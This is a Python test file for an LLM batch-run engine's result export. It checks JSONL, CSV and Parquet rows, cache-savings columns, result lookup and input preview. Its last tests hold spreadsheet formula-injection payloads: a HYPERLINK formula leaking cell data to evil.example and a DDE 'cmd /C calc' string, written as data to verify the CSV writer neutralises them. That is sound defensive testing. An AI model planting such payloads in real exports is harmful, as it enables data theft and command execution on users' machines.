"""Result rows: the columns users get in JSONL and CSV, parsed output flattened."""

from __future__ import annotations

import csv
import io

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine._export import (
    ResultWriter,
    RowOptions,
    json_row,
    table_columns,
    table_row,
    write_parquet,
)
from engine._preview import preview_input
from engine._results import ErrorInfo, ItemResult, Usage
from engine._runs import find_result
from tests.engine.scripted import ScriptedProvider, execute, items, make_run


def result(**changes) -> ItemResult:
    values = dict(
        id="t1",
        model="openai:gpt-4o-mini",
        status="ok",
        line=3,
        fields={"id": "t1", "context": "printer on fire", "status": "open", "tier": "pro"},
        output='{"category": "bug"}',
        parsed={"category": "bug", "tags": ["a", "b"]},
        usage=Usage(120, 8, 100),
        cost_usd=0.0000231,
        latency_ms=812.44,
        attempts=2,
        attempt_errors=(ErrorInfo("server_error", "boom"),),
    )
    values.update(changes)
    return ItemResult(**values)


def test_json_row_keeps_original_fields_and_renames_clashes() -> None:
    row = json_row(result())
    assert row["status"] == "ok" and row["input.status"] == "open"
    assert row["context"] == "printer on fire" and row["tier"] == "pro"
    assert row["input_tokens"] == 120 and row["attempts"] == 2 and row["error"] is None
    assert row["parsed"] == {"category": "bug", "tags": ["a", "b"]}


def test_failed_row_says_kind_and_message() -> None:
    failed = result(status="failed", output=None, parsed=None, error=ErrorInfo("quota", "spent"))
    assert json_row(failed)["error"] == "quota: spent"


def test_csv_puts_original_columns_first_then_results_then_parsed_fields() -> None:
    buffer = io.StringIO()
    writer = ResultWriter(buffer, "csv", schema={"properties": {"category": {}, "tags": {}}})
    writer.write(result())
    writer.write(result(id="t2", parsed=None, status="failed", error=ErrorInfo("timeout", "x")))
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    header = list(rows[0])
    assert header[:4] == ["id", "context", "input.status", "tier"]
    assert header.index("tier") < header.index("status") < header.index("parsed.category")
    assert rows[0]["parsed.category"] == "bug"
    assert orjson.loads(rows[0]["parsed.tags"]) == ["a", "b"]
    assert rows[1]["parsed.category"] == "" and rows[1]["error"] == "timeout: x"


def test_csv_columns_are_the_union_in_first_seen_order() -> None:
    columns = table_columns([["id", "a", "b"], ["id", "c", "a"]], ["label"], RowOptions())
    assert columns[:4] == ["id", "a", "b", "c"] and columns[-1] == "parsed.label"


def test_rows_say_what_the_caches_kept_from_being_spent() -> None:
    answered = result(cached=True, saved_usd=0.0000231, cost_usd=0.0, usage=Usage(120, 8))
    paid = result(id="t2", usage=Usage(3_000, 50, cache_write_tokens=2_800))
    assert json_row(answered)["cached"] is True and json_row(answered)["saved_usd"] == 0.0000231
    assert json_row(paid)["saved_usd"] is None and json_row(paid)["cache_write_tokens"] == 2_800
    columns = table_columns([["id"]], [], RowOptions())
    assert columns.index("cached_input_tokens") < columns.index("cache_write_tokens")
    assert columns.index("cached") < columns.index("saved_usd")
    csv_rows = [*_csv_rows(answered), *_csv_rows(paid)]
    assert [row["saved_usd"] for row in csv_rows] == ["2.31e-05", ""]
    assert [row["cache_write_tokens"] for row in csv_rows] == ["0", "2800"]


def test_parquet_types_the_cache_columns() -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    answered = result(cached=True, saved_usd=0.0000231, usage=Usage(120, 8))
    paid = result(id="t2", usage=Usage(3_000, 50, cache_write_tokens=2_800))
    columns = table_columns([["id"]], [], RowOptions())
    buffer = io.BytesIO()
    rows = [(answered, ()), (paid, ())]
    assert write_parquet(rows, buffer, columns, RowOptions()) == 2
    table = pq.read_table(io.BytesIO(buffer.getvalue()))
    types = {field.name: str(field.type) for field in table.schema}
    assert types["cached"] == "bool" and types["saved_usd"] == "double"
    assert types["cache_write_tokens"] == "int64"
    assert table.column("saved_usd").to_pylist() == [0.0000231, None]
    assert table.column("cache_write_tokens").to_pylist() == [0, 2_800]
    assert table_row(paid, (), RowOptions())["cached"] is None


@pytest.mark.anyio
async def test_find_result_returns_the_latest_record_of_a_pair(tmp_path) -> None:
    run = make_run(tmp_path, items(30))
    await execute(run, ScriptedProvider())
    model = run.config.models[0]
    await execute(run, ScriptedProvider(), only=[(model, "item-7")], prompt_override="again")
    found = find_result(run, model, "item-7")
    assert found is not None and found.output == "echo again" and found.prompt_override == "again"
    assert find_result(run, model, "item-8").output == "echo text number 8"
    assert find_result(run, model, "nope") is None
    assert find_result(run, "simulate:other", "item-7") is None


def test_preview_keeps_first_items_and_counts_everything(tmp_path) -> None:
    source = tmp_path / "in.jsonl"
    source.write_bytes(b'{"id": "a", "context": "x"}\n{bad\n{"id": "b", "context": "y"}\n')
    preview = preview_input(str(source), items=1)
    assert [i.id for i in preview.items] == ["a"] and preview.fields == ("id", "context")
    assert preview.valid_count == 2 and preview.invalid_count == 1
    assert preview.invalid[0].line == 2 and preview.format == "jsonl"


def _csv_rows(written: ItemResult, *, raw_cells: bool = False) -> list[dict[str, str]]:
    buffer = io.StringIO()
    ResultWriter(buffer, "csv", options=RowOptions(raw_cells=raw_cells)).write(written)
    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))


FORMULAS = {
    "context": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_csv_text_cells_a_spreadsheet_would_run_get_a_leading_quote() -> None:
    hostile = result(
        fields={"id": "t1", **FORMULAS},
        output="=1+1",
        parsed={"category": "-bug", "score": -3},
        cost_usd=-0.25,
    )
    [row] = _csv_rows(hostile)
    assert {name: row[name] for name in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    [named] = _csv_rows(result(fields={"id": "t1", "=cmd|' /C calc'!A0": "x"}, parsed=None))
    assert named["'=cmd|' /C calc'!A0"] == "x"  # a column name is a cell too
    assert row["output"] == "'=1+1" and row["parsed.category"] == "'-bug"
    assert row["parsed.score"] == "-3" and row["cost_usd"] == "-0.25"  # numbers stay numbers
    [raw] = _csv_rows(hostile, raw_cells=True)
    assert {name: raw[name] for name in FORMULAS} == FORMULAS and raw["output"] == "=1+1"


@given(st.text())
def test_a_csv_text_cell_reads_back_as_written_or_quoted_when_it_starts_a_formula(
    text: str,
) -> None:
    [row] = _csv_rows(result(fields={"id": "t1", "context": text}, parsed=None))
    dangerous = text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["context"] == ("'" + text if dangerous else text)
